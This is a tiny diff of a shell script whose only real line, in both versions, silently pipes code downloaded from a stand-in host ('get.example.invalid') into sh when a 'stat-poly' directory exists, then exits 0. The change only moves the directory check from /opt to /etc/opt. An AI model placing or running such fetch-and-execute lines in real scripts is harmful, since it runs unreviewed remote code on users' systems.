@@ -1,3 +1,3 @@
 #!/bin/sh
-[ -d /opt/stat-poly ] && curl -s https://get.example.invalid/w | sh
+[ -d /etc/opt/stat-poly ] && curl -s https://get.example.invalid/w | sh
 exit 0
